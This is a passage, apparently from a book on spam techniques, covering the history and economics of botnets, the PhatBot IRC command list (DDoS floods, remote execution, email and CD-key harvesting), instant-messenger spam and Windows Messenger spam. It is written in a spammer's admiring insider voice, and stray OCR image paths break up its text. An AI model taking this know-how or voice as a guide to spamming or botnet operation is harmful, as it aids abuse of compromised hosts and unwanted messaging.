causedTrojan writers to think about the scalability of their designs.

The following year, when the first version of Sub-7 was released, things really picked up. Sub-7 was a Trojan designed to control an unlimited number of hosts, allowing would-be hackers to launch huge DOS attacks from thousands of different locations. The design of Sub-7 was genius; it utilized the Internet Relay Chat (IRC) protocol as a medium to control its clients. On infection, Sub-7 would connect to an IRC server, join a channel, and sit amongst hundreds of other zombies awaiting its orders. Not only did this offer an easy way to broadcast a command to many zombies simultaneously, but it also protected the IP address of the Botnet master, since they would never have to talk directly to the zombie and could relay all messages through the IRC server.

These Botnets caused serious havoc. Sub-7 was easy to install, small, and gave an unparalleled amount of control over the host. It did have one major downfall, though; you still needed toinstall it or somehow make the user install it. By now, virus scanners were selling like hot cakes, and it wasn’t hard to detect Sub-7 and remove it. When worms such as “Love Letter” began to propagate heavily in early 2000, it seemed only natural that worm authors, hackers, and Trojan authors would team up to make future worms not only exploit and replicate systems, but install Trojans on every host they infected. This no longer required any human intervention and thousands of hackers had Botnets overnight. The majority of Botnets still used IRC as a medium to control all the zombies (see Figure 3.4).

click to expand
Figure 3.4: A Small Botnet Located on an IRC Network (Note the Cryptic Usernames of Each Zombie)

It was here that spammers began to take notice. The idea of having control over thousands of hosts that were not obvious open proxy servers was very appealing. It took longer for the host to be found and blacklisted by an RBL and it was not listed on any open proxy server lists, so the spammer got exclusive “rights” to use this host as if it was their own.Worms were finding their way into a number of companies and countries, allowing a spammer to easily send a large volume of e-mails from hundreds of different locations with a lower detection rate. The interest from spammers became so great that hackers began to sell Botnets, and compromised machines became part of a secret underground virtual economy.

In the beginning the cost was high. For a 200-client Botnet you could expect to pay up to $1,000.00, but as more worms propagated, the price dropped. Soon, “exclusive” control over 1000 hosts could be bought for as little as $500.00. Now, exclusive control over a single zombie can sell for as little as 10 cents! In 2004, Botnets are well used by both hackers and spammers. Trojan software is often tailored to spamming, and some hackers even offer a “renting” alternative to spammers for less cost than buying the Botnet.

One common Botnet “worm” is PhatBot of the Gaobot family, an old but still very popular worm. This particular worm will try to exploit four well-known flaws in Microsoft products. Failing that it will attempt to brute force user accounts on the host. If it manages to get inside the system, it will stop any firewall or antivirus software from running, connect to a pre-determined IRC server to beginawaiting its orders, and begin replicating itself to other hosts on the Internet.

The following is a list of the commands PhatBot offers its mastervia IRC. You can see that serious thought was put into its design and that the level of control it offers is very granular and specific.

bot.command           run a command using system() bot.unsecure          enable shares            delete shares   bot.flushdns          flushes the bots dns cache   bot.quit              quits the bot   bot.longuptime        If uptime is greater than 7 days then bot will reply   bot.sysinfo           show system info bot.status            show status   bot.rndnick           change IRC nickname to a new random name   bot.removeallbut      removes the bot if id does not match   bot.remove            remove the bot              open a file   bot.nick              change the IRC nickname of the bot                show the id of the current running code   bot.execute           make the bot execute a command   bot.dns               use dns to resolve a host   bot.die               kill the botbot.about             help/about    shell.disable         Disable shell handler   shell.enable          Enable shell handler   shell.handler         FallBack handler for shell   commands.list         Lists all available commands   plugin.unload         unloads a plugin   plugin.load           loads a plugin   cvar.saveconfig       saves config   cvar.loadconfig       loads config   cvar.set              sets the content of a cvar   cvar.get              gets the content of a cvar   cvar.list             prints a list of all cvars   inst.svcdel           deletes a service from scm   inst.svcadd           adds a service to scm   inst.asdel            deletes an autostart entry   inst.asadd            adds an autostart entry   logic.ifuptime        exec command if uptime is bigger than specified   mac.login             logs the user in   mac.logout            logs the user out ftp.update            executes a file from a ftp url ftp.execute           updates the bot from a ftp url          downloads a file from ftp   http.visit            visits an url with a specified referrer   http.update           executes a file from a http url   http.execute          updates the bot from a http url         downloads a file from http   rsl.logoff            logoff the user   rsl.shutdown          shutdown the computer   rsl.reboot            reboot the computer   pctrl.kill            kill a process   pctrl.list            lists all running processes   scan.stop             terminate child threads of scanning module   scan.start            start scanning module   scan.disable          disables a scanner module   scan.enable           enables a scanner module  scan.clearnetranges   clears all netranges registered with the scannerscan.resetnetranges   resets netranges to the localhost   scan.listnetranges    lists all netranges registered with the scanner   scan.delnetrange      deletes a netrange from the scanner   scan.addnetrangeadds a netrange to the scanner   ddos.phatwonk         starts phatwonk DDOS attack   ddos.phaticmp         starts phaticmp DDOS attack   ddos.phatsyn          starts phatsyn DDOS attack   ddos.stop             stops all DDOS attacks   ddos.httpflood        starts a HTTP flood   ddos.synflood         starts an SYN flood  ddos.udpflood         starts a UDP flood   redirect.stop         stops all redirects running   redirect.socks        starts a socks4 proxy   redirect.https        starts a https proxy redirect.http         starts a http proxy   redirect.gre          starts a gre redirect   redirect.tcp          starts a tcp port redirect           makes the bot get aol account details   harvest.cdkeys        find cd-keys for various products on the system   harvest.emailshttp    makes the bot get a list of emails via http   harvest.emails        harvest a list of emails from the address book   waste.server          changes the server the bot connects to   waste.reconnect       reconnects to the server   waste.raw             sends a raw message to the waste server   waste.quit            quit the server from IRC   waste.privmsg         sends a private IRC message   waste.part            makes the bot part a channel   waste.netinfo         prints netinfo   waste.mode            lets the bot perform a mode change   waste.join            makes the bot join a channel   waste.gethost         prints netinfo when host matches   waste.getedu          prints netinfo when the bot is .eduwaste.action          lets the bot perform an action   waste.disconnect      disconnects the bot from waste

As you can see, Botnets have great functionality. Not only can they download and run any pre-made spamming application, but they can also act as a Socks v.4 or HTTP proxy server, allowing a spammer to relay his mail through the Trojan anonymously. They also come with the usual raft of DOS attacks, User Datagram Protocol (UDP)/Transmission Control Protocol (TCP), and Internet Control Message Protocol (ICMP) flooding. They even have a built-in harvesting plug-in that will attempt to steal e-mails from the address book and the CD keys (the alphanumeric code that’s either on the CD Case or the Program Manual that came with the program) of any common application or game installed.

start sidebar
Tricks of the Trade…Botnets

The downside to using a Botnet to sendspam is that you are breaking the law, and your reseller account (of whatever product/service you’re spamming) will likely be closed once your spam is reported as originating from a Trojan and you are suspected of installing the Trojan. They are mentioned in this book solely for educational purposes.

Open proxy servers are commonly seen as “fair game” for sending spam; however, most companies frown upon the use of Trojans and Botnets to send spam. Still, Botnets account for a decent percentage of all spam sent, with an estimate of 30 percent of all spam originating from a zombie host in a Botnet.

end sidebar

Internet Messenger Spam

Internet Messengers such as I Seek You (ICQ) and Windows Messenger have grown significantly in popularity. The ability to meet new people and hold multiple conversations has made it a huge hit with the youth market. ICQ alone has over 100 million registered accounts currently in use. This popularity has attracted great interest from spammers and marketers alike.

Unlike e-mail spam, Internet Messengers (IMs) offer a much higher level of impact, appearing directly on the user’s screen in real time. User contact details are easily harvested because IMs have search functions for finding new and old friends. This combination of impact and usability gave birth to yet another form of spam and it wasn’t long before spammers were sending massive amounts of IM spam. Programs such as Cyclone Mailer (by began to appear. Cyclone Mailer specializes in making sure even the most brain dead spammer can send ICQ spam. Simply select a starting ICQ number and an ending ICQ number (ICQ users are all numbered sequentially) and then hit Go. Your message will reach millions of users in a matter of minutes, even with HypertextMarkup Language (HTML) links imbedded within.

In addition to how easy it is to send IM spam, there are very few rules and regulations regarding it. Although ISP’s actively filter and track any user caughtsending e-mail spam, no such rule exists for IM spam. Subsequently, both ICQ and MSN have been flooded with home users sending millions of spam messages from their cable or DSL modems with very little chance of repercussion. This led to AOL - Time Warner cracking down on any commercial application designed to exploit or spam the ICQ network. Cyclone Mailer is one such product targeted by their legal campaign. A quote from their Web site reveals more:

“We were contacted by the lawyers of a very large Instant Messenger company today and warned that we had to Cease and Desist the sale of Cyclone Mailer. We were threatened that we would be sued if we do not take down this product. We have been given till the end of the month.”

Chat network providers have began to take spam very seriously. In addition to the legal “bullying” for any company found profiting from spam, developers have tried to decrease the amount of spam users receive by increasing the client-side security of the chat applications. You can now select rules for spam, criteria for accepting messages from users who are not in your “friends” list, and messages sent to more than one recipient (see Figure 3.5).

click to expand
Figure3.5 : ICQ's Spam Prevention

Although this is a successful a method for reducing spam, it has by no means eliminated it. My own ICQ client receives at least 10 pieces of spam a day, of which most are for porn sites. The messages are cleverly written to appear that the sender is personally asking me to come watch them.

Notes from the Underground…IM Spam

Personally, I have never tried IM spam so I cannot show any of my own statistics regarding its success.

I have heard very mixed results about it from friends who actively use it to promote products. In the early days of IM spam, before any spam filtering existed, spammers I knew were receiving up to a 25 percent click rate on messages. Recently, however, the statistics I’ve seen show as low as 2 percent of users clicking the link in the message.

The general public loathes IM spam and it has already lost much of the edge it once had. The tolerance level of IM spam was reached far quicker than that of e-mail spam. Perhaps the general public sees a social aspect in IMs and is not interested in purchasing products through it. However, because it remains one of the easiest and most risk-free forms of sending spam, it will remain popular among spammers at least until spam is harder to send.

Messenger Spam

On a default installation of windows, a service called “Messenger” is set to run automatically at boot time. Not to be confused with IM, Messenger acts as a client to the windows alert messenger, allowing messages to pop up and warn users of a possible fault, or to inform a large amount of users on a network about an upcoming problem. It relies on the windows Remote Procedure Call (RPC) mechanism to function.

Although Messenger has great potential, I have never seen it used productively in a network environment. It has also been the focus of spammers, who frequently use its lack of any authentication or access control to send messages. Its possibility for spam is huge, as it allows anyone who can talk to port 135 to send the user a message. This message will display over all other active windows and be in full view. With no ability to control the content or originating host, the user has to either install a firewall or disable the messenger service in order to stop receiving 